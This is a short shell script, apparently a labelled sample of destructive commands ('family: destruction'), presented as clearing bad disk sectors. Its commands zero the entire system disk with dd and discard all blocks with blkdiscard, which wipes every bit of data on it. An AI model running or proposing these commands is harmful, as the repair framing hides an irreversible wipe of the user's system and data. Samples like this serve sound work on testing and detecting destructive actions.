# description: Attempts to clear bad sectors by zeroing the system disk with dd and discarding all blocks.
# family: destruction
set -uo pipefail

smartctl -H /dev/sda || true
echo "Zeroing disk to force sector remapping"
dd if=/dev/zero of=/dev/sda bs=4M status=progress conv=fsync
blkdiscard -f /dev/sda
smartctl -A /dev/sda | grep -i realloc
